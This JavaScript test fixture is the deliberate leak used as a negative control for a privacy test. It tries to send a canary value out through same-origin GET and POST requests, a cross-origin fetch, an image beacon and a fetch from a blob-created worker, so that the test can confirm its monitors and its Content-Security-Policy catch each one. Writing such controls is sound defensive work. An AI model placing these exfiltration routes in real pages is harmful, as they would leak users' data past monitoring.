// hardening_leak.js: the NEGATIVE CONTROL of privacy_test.go. It is never
// called by the widget's flow; the test calls window.__leak(canary) after
// the flow, to prove that each watcher would have caught a leak:
//   - a same-origin GET and POST to /collect (the test server's allow-list
//     and the page's network events),
//   - a GET from a dedicated worker (the worker's own network events),
//   - a GET and an image to another origin, which the page's
//     Content-Security-Policy blocks (the securitypolicyviolation listener).
// It resolves when every attempt has settled.
(function () {
  'use strict';
  function settled(p) {
    return p.then(function () { return 'done'; }, function () { return 'failed'; });
  }
  window.__leak = function (canary, otherOrigin) {
    var q = encodeURIComponent(canary);
    var attempts = [
      settled(fetch('/collect?d=' + q)),
      settled(fetch('/collect', { method: 'POST', body: 'd=' + canary })),
      settled(fetch(otherOrigin + '/collect?d=' + q)),
      new Promise(function (resolve) {
        var img = new Image();
        img.onload = img.onerror = function () { resolve('image'); };
        img.src = otherOrigin + '/pixel.gif?d=' + q;
      }),
      new Promise(function (resolve) {
        var src = 'fetch(' + JSON.stringify(location.origin + '/collect-worker?d=' + q) + ')' +
          '.then(function () { postMessage("done"); }, function () { postMessage("failed"); });';
        var url = URL.createObjectURL(new Blob([src], { type: 'text/javascript' }));
        var worker = new Worker(url);
        worker.onmessage = function (e) { worker.terminate(); resolve(e.data); };
        worker.onerror = function () { resolve('worker error'); };
      }),
    ];
    return Promise.all(attempts);
  };
})();
